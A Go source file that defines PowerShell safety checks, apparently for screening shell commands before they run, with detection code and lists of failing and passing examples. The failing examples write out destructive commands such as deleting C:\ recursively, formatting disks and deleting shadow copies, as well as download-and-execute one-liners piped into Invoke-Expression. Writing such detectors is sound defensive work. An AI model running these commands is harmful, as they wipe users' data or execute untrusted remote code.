package bashsafety

import "strings"

// powershellChecks are the checks of AnalyzePowerShell.
var powershellChecks = []Check{
	{
		ID:       "powershell-remove",
		Title:    "deletes files or folders and everything in them",
		Why:      "files outside git cannot be recovered",
		Instead:  "`Remove-Item notes.tmp`, which names the file",
		Severity: Destructive,
		About:    AboutFiles,
		Trees:    true,
		Fails:    []string{"Remove-Item -Recurse -Force build", "rm -r build", "ri build -rec", "del /s /q build", "rd /s build", "Get-ChildItem | Remove-Item -Recurse", "REMOVE-ITEM build -Recurse", "rmdir build -Recurse", "if ($x) { Remove-Item -Recurse build }", "Remove-Item -Rec:$true x", "Remove-Item @options", "Get-ChildItem | % { ri $_ -r }", "erase -Recurse x", "rm -rf x", `cmd /c "rd /s /q x"`, "& 'Remove-Item' -Recurse x"},
		Passes:   []string{"Remove-Item notes.tmp", "Remove-Item -Recurse:$false x", "Remove-Item $x", "Get-ChildItem -Recurse", "echo 'Remove-Item -Recurse'", "Copy-Item -Recurse a b", "git commit -m 'rm -r x'"},
		Find:     func(s *Script) []Finding { return runningCmdlet(s, removesTree) },
	},
	{
		ID:       "powershell-remove-root",
		Title:    "deletes a drive, the system or a home directory",
		Why:      "everything below is gone at once",
		Instead:  "`Remove-Item -Recurse build`, which names the folder",
		Severity: Catastrophic,
		Fails: []string{
			`Remove-Item -Recurse -Force C:\`, `rm -r C:\*`, "Remove-Item ~ -Recurse", `rd /s D:\`, "Remove-Item / -Recurse", `ri $HOME -r`,
			`Remove-Item -Recurse $env:USERPROFILE\*`, `Remove-Item C:\Windows -Recurse`, `Remove-Item 'C:\Users\*' -Recurse`, `Remove-Item C:\Users\dev -Recurse`,
			`Get-ChildItem C:\ | Remove-Item -Recurse`, `Move-Item C:\Windows x`,
		},
		Passes: []string{`Remove-Item C:\work\project\build`, `Get-ChildItem C:\ -Recurse`, `Copy-Item -Recurse C:\Users\dev\a b`},
		Find: func(s *Script) []Finding {
			var all []Finding
			for i := range s.Subcommands {
				sub := &s.Subcommands[i]
				if name := cmdletName(sub.Program); name != "move-item" && !removesTree(name, sub.Argv) {
					continue
				}
				for k := range sub.Effects {
					if e := &sub.Effects[k]; e.Kind == Delete && ruinsWindows(e, s.env.Home) {
						all = append(all, Finding{Sub: i, Span: sub.Span})
						break
					}
				}
			}
			return all
		},
	},
	{
		ID:       "powershell-download",
		Title:    "runs what it downloads",
		Why:      "the server decides what runs with your rights",
		Instead:  "`Invoke-WebRequest https://example.com/x.ps1 -OutFile x.txt` and read it first",
		Severity: Catastrophic,
		Fails: []string{
			"irm https://example.com/x.ps1 | iex", "iex (iwr https://example.com/x.ps1)", "Invoke-WebRequest https://example.com | Invoke-Expression",
			`iex "$(irm https://example.com)"`, "iex (New-Object Net.WebClient).DownloadString('https://example.com')", "curl.exe -s https://example.com | iex",
		},
		Passes: []string{"irm https://example.com | ConvertTo-Json", "iex 'Get-Date'; irm https://example.com"},
		Find: func(s *Script) []Finding {
			return runningAt(s, func(i int, sub *Subcommand) bool {
				if cmdletName(sub.Program) != "invoke-expression" {
					return false
				}
				text := strings.ToLower(s.Text[sub.Span.Start:sub.Span.End])
				for _, k := range append(commandsIn(s, i), sub.From...) {
					if sends(&s.Subcommands[k]) {
						return true
					}
				}
				return strings.Contains(text, ".downloadstring")
			})
		},
	},
	{
		ID:       "powershell-disk",
		Title:    "erases a disk or stops the machine",
		Why:      "the data on the disk, or unsaved work, is lost",
		Instead:  "`Get-Volume` to look first",
		Severity: Destructive,
		Fails:    []string{"Format-Volume -DriveLetter D", "Clear-Disk -Number 1", "Initialize-Disk 1", "Remove-Partition -DiskNumber 1", "stop-computer", "Restart-Computer -Force", "Clear-RecycleBin -Force", "vssadmin delete shadows /all"},
		Passes:   []string{"Get-Volume", "Get-Disk", "echo Format-Volume"},
		Find: func(s *Script) []Finding {
			return runningCmdlet(s, func(name string, argv []Word) bool {
				switch name {
				case "format-volume", "clear-disk", "initialize-disk", "remove-partition", "stop-computer", "restart-computer", "clear-recyclebin", "reset-physicaldisk", "clear-content-volume", "format.com", "diskpart":
					return true
				case "vssadmin":
					return anyWord(argv, "delete")
				}
				return false
			})
		},
	},
	{
		ID:       "powershell-expression",
		Title:    "runs text as a command",
		Why:      "that text cannot be read before it runs",
		Instead:  "the command itself, such as `Get-ChildItem`",
		Severity: Suspicious,
		Fails:    []string{"Invoke-Expression $x", "iex 'Get-ChildItem'", "irm https://example.com | iex", "(New-Object Net.WebClient).DownloadString('https://example.com') | IEX", "powershell -EncodedCommand AAAA", "pwsh -e AAAA", "Invoke-Command -ScriptBlock { x }", "Add-Type -TypeDefinition x", "Start-Process x -Verb RunAs", "Set-ExecutionPolicy Bypass"},
		Passes:   []string{"Get-ChildItem", "echo iex", "Invoke-WebRequest https://example.com -OutFile x"},
		Find: func(s *Script) []Finding {
			return runningCmdlet(s, func(name string, argv []Word) bool {
				switch name {
				case "invoke-expression", "invoke-command", "add-type", "set-executionpolicy", "invoke-cimmethod", "invoke-wmimethod":
					return true
				case "start-process":
					return anyWord(argv, "RunAs")
				case "powershell", "pwsh":
					for i := range argv[1:] {
						if t := strings.ToLower(argv[i+1].Text); len(t) > 1 && (t[0] == '-' || t[0] == '/') && strings.HasPrefix("encodedcommand", t[1:]) {
							return true
						}
					}
				}
				return false
			})
		},
	},
}

// runningCmdlet reports the subcommands whose canonical name and words fit.
func runningCmdlet(s *Script, fits func(name string, argv []Word) bool) []Finding {
	var all []Finding
	for i := range s.Subcommands {
		sub := &s.Subcommands[i]
		if fits(cmdletName(sub.Program), sub.Argv) {
			all = append(all, Finding{Sub: i, Span: sub.Span})
		}
	}
	return all
}

// runningAt reports the subcommands that fit.
func runningAt(s *Script, fits func(i int, sub *Subcommand) bool) []Finding {
	var all []Finding
	for i := range s.Subcommands {
		if sub := &s.Subcommands[i]; fits(i, sub) {
			all = append(all, Finding{Sub: i, Span: sub.Span})
		}
	}
	return all
}

// commandsIn lists the subcommands in the words of another one.
func commandsIn(s *Script, at int) []int {
	var all []int
	outer := s.Subcommands[at].Span
	for i := range s.Subcommands {
		if in := s.Subcommands[i].Span; i != at && in.Start >= outer.Start && in.End <= outer.End {
			all = append(all, i)
		}
	}
	return all
}

// ruinsWindows reports whether losing a tree is losing the machine or a home,
// as ruinous does for the folders of Unix.
func ruinsWindows(e *Effect, home string) bool {
	if ruinous(e, home) {
		return true
	}
	p := strings.ToLower(strings.TrimRight(e.Path, "/*."))
	if !e.Known && !e.Glob || len(p) < 2 || p[0] != '/' || p[1] < 'a' || p[1] > 'z' || len(p) > 2 && p[2] != '/' {
		return false
	}
	folder, rest, deeper := strings.Cut(strings.TrimPrefix(p[2:], "/"), "/")
	switch folder {
	case "":
		return true
	case "users":
		return !strings.Contains(rest, "/")
	case "windows", "program files", "program files (x86)", "programdata":
		return !deeper
	}
	return false
}

// removesTree is Remove-Item with -Recurse or an abbreviation of it, and the
// spellings of cmd and Unix.
func removesTree(name string, argv []Word) bool {
	if name == "cmd" {
		for i := range argv[1:] {
			low := " " + strings.ToLower(argv[i+1].Text) + " "
			if (strings.Contains(low, "rd ") || strings.Contains(low, "rmdir ") || strings.Contains(low, "del ") || strings.Contains(low, "erase ")) && strings.Contains(low, " /s ") {
				return true
			}
		}
		return anyWord(argv, "rd", "rmdir", "del", "erase") && anyWord(argv, "/s")
	}
	if name != "remove-item" {
		return false
	}
	for i := range argv[1:] {
		t, value, _ := strings.Cut(strings.ToLower(argv[i+1].Text), ":")
		if value == "$false" {
			continue
		}
		if !argv[i+1].Known && !argv[i+1].Single { // @options
			return true
		}
		if t == "/s" || len(t) > 1 && t[0] == '-' && strings.HasPrefix("-recurse", t) || t == "-rf" || t == "-fr" {
			return true
		}
	}
	return false
}
